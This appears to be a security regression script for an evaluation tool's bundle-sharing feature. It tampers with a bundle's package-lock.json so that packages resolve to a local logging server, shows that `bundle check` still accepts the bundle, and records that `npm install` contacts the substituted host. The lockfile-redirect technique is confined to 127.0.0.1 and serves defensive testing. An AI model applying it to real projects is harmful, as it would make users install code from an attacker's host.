"""Break: a bundle whose study/package-lock.json points promptfoo at another tarball passes `bundle check`
(nothing listed), and the README's `npm install` then fetches promptfoo from the lockfile's host (issue 39).

Extracts the accepted bundle's study (built as in bundle_tamper.py, lock resolved to a logging server on
127.0.0.1), runs `npm install --ignore-scripts` there with a private npm cache, and prints what the server was asked.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tarfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from bundle_tamper import LOCK, repack
from common import REPO, tmpdir

PY = str(REPO / ".venv" / "bin" / "python")
asked: list[str] = []


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass

    def do_GET(self):
        asked.append(self.path)
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()


def main() -> int:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    port = server.server_address[1]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    lock = json.loads(json.dumps(LOCK).replace("127.0.0.1:9", f"127.0.0.1:{port}"))
    lock["packages"]["node_modules/node"] = {"version": "24.21.0", "resolved": f"http://127.0.0.1:{port}/node-24.21.0.tgz",
                                             "integrity": "sha512-" + "B" * 86 + "==", "dev": True}
    tmp = tmpdir("lock")
    subprocess.run([PY, "-m", "grounding_eval", "init", str(tmp / "study")], check=True, capture_output=True, cwd=REPO)
    subprocess.run([PY, "-m", "grounding_eval", "share", str(tmp / "study"), "-o", str(tmp / "clean.tar.gz")],
                   check=True, capture_output=True, cwd=REPO)
    repack(tmp / "clean.tar.gz", tmp / "b.tar.gz", lambda m: m.__setitem__("study/package-lock.json", json.dumps(lock).encode()))
    check = subprocess.run([PY, "-m", "grounding_eval", "bundle", "check", str(tmp / "b.tar.gz")], capture_output=True, text=True, cwd=REPO)
    print("bundle check:", check.returncode, (check.stdout + check.stderr).strip())
    out = tmp / "received"
    out.mkdir()
    with tarfile.open(tmp / "b.tar.gz") as t:
        t.extractall(out, filter="data")
    env = {**os.environ, "npm_config_cache": str(tmp / "npm-cache"), "npm_config_audit": "false",
           "npm_config_fund": "false", "npm_config_update_notifier": "false", "npm_config_fetch_retries": "0"}
    done = subprocess.run(["npm", "install", "--ignore-scripts"], cwd=out / "study", env=env, capture_output=True,
                          text=True, timeout=120)
    print("npm install:", done.returncode, (done.stderr.strip().splitlines() or [""])[0][:200])
    print("the lockfile's host was asked for:", asked)
    server.shutdown()
    return 1 if asked else 0


if __name__ == "__main__":
    sys.exit(main())
